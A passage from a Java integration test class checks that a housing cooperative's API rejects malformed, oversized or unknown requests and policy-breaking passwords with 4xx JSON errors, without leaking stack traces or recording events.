    Response r = recordingNothing(() -> raw("POST", path));
    assertThat(r.status()).as(describe(r)).isBetween(400, 499);
    assertError(r, r.status(), null);
  }

  @Test
  void a_path_of_ten_thousand_characters_is_refused_with_4xx() {
    Response r = recordingNothing(() -> raw("POST", "/api/admin/accounts/" + "x".repeat(10_000) + "/unlock"));
    assertThat(r.status()).as(describe(r)).isBetween(400, 499);
  }

  @ParameterizedTest(name = "{0} {1}")
  @MethodSource("unknown_paths")
  void a_request_to_an_unknown_api_path_answers_404_in_the_error_format(String method, String path, boolean signedIn) {
    Response r = recordingNothing(() -> api.send(api.builder(path, signedIn ? adminToken : null)
        .header("Content-Type", "application/json")
        .method(method, method.equals("GET") ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString("{}"))
        .build()));
    assertError(r, 404, "not_found");
  }

  static Stream<Arguments> unknown_paths() {
    return Stream.of(
        Arguments.of("GET", "/api/does-not-exist", false),
        Arguments.of("GET", "/api/does-not-exist", true),
        Arguments.of("POST", "/api/does-not-exist", true),
        Arguments.of("GET", "/api/admin/accounts/" + "00000000-0000-0000-0000-000000000000", true),
        Arguments.of("POST", "/api/admin/accounts/x/delete", true),
        Arguments.of("GET", "/api/", true),
        Arguments.of("GET", "/api/auth/login/extra", false));
  }

  @ParameterizedTest(name = "{0} {1}")
  @MethodSource("unsupported_methods")
  void an_unsupported_method_on_a_known_path_does_not_answer_500(String method, String path) {
    Response r = recordingNothing(() -> api.send(api.builder(path, adminToken)
        .header("Content-Type", "application/json")
        .method(method, HttpRequest.BodyPublishers.ofString(
            new JsonObject().put("cooperative", "sm-prudnik").put("login", "admin").put("password", "x").encode()))
        .build()));
    assertError(r, r.status(), null);
    assertThat(r.status()).as(describe(r)).isBetween(400, 499);
  }

  static Stream<Arguments> unsupported_methods() {
    return Stream.of(
        Arguments.of("PUT", "/api/auth/login"),
        Arguments.of("DELETE", "/api/auth/login"),
        Arguments.of("PATCH", "/api/auth/password"),
        Arguments.of("DELETE", "/api/me"),
        Arguments.of("PUT", "/api/admin/regulations"),
        Arguments.of("DELETE", "/api/admin/accounts"),
        Arguments.of("OPTIONS", "/api/admin/accounts"),
        Arguments.of("PROPFIND", "/api/me"));
  }

  @Test
  void get_on_a_post_only_path_does_not_answer_500() {
    Response r = recordingNothing(() -> api.get("/api/auth/login", null));
    assertError(r, r.status(), null);
    assertThat(r.status()).as(describe(r)).isBetween(400, 499);
  }

  // ---------------------------------------------------------------- the cooperative's password rules

  static Stream<Arguments> password_policy_violations() {
    return Stream.of(
        Arguments.of("sm-prudnik", "abc", List.of("too_short", "digit_required", "upper_case_required")),
        Arguments.of("sm-prudnik", "Ab1", List.of("too_short")),
        Arguments.of("sm-prudnik", "abcdefgh1", List.of("upper_case_required")),
        Arguments.of("sm-prudnik", "Abcdefgh", List.of("digit_required")),
        Arguments.of("sm-prudnik", "Abcdefgh1!", List.of("letters_and_digits_only")),
        Arguments.of("sm-prudnik", "Zażółć123", List.of("letters_and_digits_only")),
        Arguments.of("sm-prudnik", "Abcdefgh1" + "x".repeat(12), List.of("too_long")),
        Arguments.of("sm-prudnik", "Abc\u0001def1", List.of("letters_and_digits_only", "control_characters")),
        Arguments.of("sm-prudnik", "", List.of("too_short", "digit_required", "upper_case_required")),
        Arguments.of("sm-opole", "a1", List.of("too_short")),
        Arguments.of("sm-opole", "abcdefgh", List.of("digit_required")),
        Arguments.of("sm-opole", "a".repeat(128) + "1", List.of("too_long")),
        Arguments.of("sm-opole", "abc\u0000def1", List.of("control_characters")));
  }

  @ParameterizedTest(name = "{0}: \"{1}\" breaks {2}")
  @MethodSource("password_policy_violations")
  void a_new_password_that_breaks_the_policy_is_refused_with_422_listing_the_violations(String cooperative, String password,
                                                                                        List<String> violations) {
    boolean prudnik = cooperative.equals("sm-prudnik");
    JsonObject body = new JsonObject().put("currentPassword", prudnik ? residentPassword : opoleResidentPassword)
        .put("newPassword", password);
    Response r = recordingNothing(() -> api.post("/api/auth/password", prudnik ? residentToken : opoleResidentToken, body.encode()));
    assertError(r, 422, "password_policy");
    assertThat(r.json().getJsonObject("details").getJsonArray("violations").getList())
        .containsExactlyInAnyOrderElementsOf(violations);
  }

  @Test
  void a_new_password_equal_to_the_current_one_is_refused_with_422() {
    JsonObject body = new JsonObject().put("currentPassword", residentPassword).put("newPassword", residentPassword);
    Response r = recordingNothing(() -> api.post("/api/auth/password", residentToken, body.encode()));
    assertError(r, 422, "password_policy");
    assertThat(r.json().getJsonObject("details").getJsonArray("violations").getList()).containsExactly("same_as_current");
  }

  // ---------------------------------------------------------------- helpers

  private static Response postRecordingNothing(Endpoint endpoint, String body) {
    return recordingNothing(() -> api.postRaw(endpoint.path(), endpoint.token(), body, "application/json"));
  }

  /** Sends the request and checks that the event store holds no more events than before it. */
  private static Response recordingNothing(Supplier<Response> request) {
    long before = iok.allEvents();
    Response r = request.get();
    assertNoLeak(r);
    assertThat(iok.allEvents()).as("events stored after %s", describe(r)).isEqualTo(before);
    return r;
  }

  /** The answer has the status, and API.md's error format with the code (any code when null). */
  private static void assertError(Response r, int status, String code) {
    assertThat(r.status()).as(describe(r)).isEqualTo(status);
    assertThat(r.headers().firstValue("Content-Type")).as(describe(r))
        .hasValueSatisfying(ct -> assertThat(ct).startsWith("application/json"));
    JsonObject json;
    try {
      json = new JsonObject(r.body());
    } catch (RuntimeException e) {
      throw new AssertionError("not a JSON object: " + describe(r));
    }
    assertThat(json.fieldNames()).as(describe(r)).contains("error", "message").isSubsetOf("error", "message", "details");
    assertThat(json.getValue("error")).as(describe(r)).isInstanceOf(String.class);
    assertThat(json.getString("error")).as(describe(r)).matches("[a-z_]+");
    assertThat(json.getValue("message")).as(describe(r)).isInstanceOf(String.class);
    assertThat(json.getString("message")).as(describe(r)).isNotBlank();
    if (code != null) assertThat(json.getString("error")).as(describe(r)).isEqualTo(code);
  }

  private static void assertNoLeak(Response r) {
    assertThat(r.status()).as(describe(r)).isLessThan(500);
    String body = r.body() == null ? "" : r.body();
    assertThat(body).as("stack trace in " + describe(r)).doesNotContainPattern(STACK_TRACE);
    assertThat(body).as("class name in " + describe(r)).doesNotContainPattern(CLASS_NAME);
  }

  /** Sends a request line the JDK's client would refuse to build, over a plain socket. */
  private static Response raw(String method, String path) {
    try (Socket socket = new Socket("localhost", iok.port())) {
      socket.setSoTimeout(10_000);
      OutputStream out = socket.getOutputStream();
      out.write((method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + adminToken
          + "\r\nContent-Type: application/json\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
          .getBytes(StandardCharsets.ISO_8859_1));
      out.flush();
      BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
      String statusLine = in.readLine();
      if (statusLine == null) throw new AssertionError("no answer to " + method + " " + path);
      Map<String, List<String>> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
      for (String line = in.readLine(); line != null && !line.isEmpty(); line = in.readLine()) {
        int colon = line.indexOf(':');
        headers.computeIfAbsent(line.substring(0, colon).trim(), k -> new ArrayList<>()).add(line.substring(colon + 1).trim());
      }
      StringBuilder body = new StringBuilder();
      for (int c = in.read(); c != -1; c = in.read()) body.append((char) c);
      return new Response(Integer.parseInt(statusLine.split(" ")[1]), body.toString(),
          HttpHeaders.of(headers, (k, v) -> true));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String describe(Response r) {
    String body = r.body() == null ? "" : r.body();
    return r.status() + " " + (body.length() > 300 ? body.substring(0, 300) + "…" : body);
  }

  private static String escape(String s) {
    StringBuilder b = new StringBuilder();
    s.codePoints().forEach(c -> b.append(c < 0x20 || (c >= 0x7f && c <= 0x9f) ? String.format("\\u%04x", c) : Character.toString(c)));
    return b.toString();
  }
}
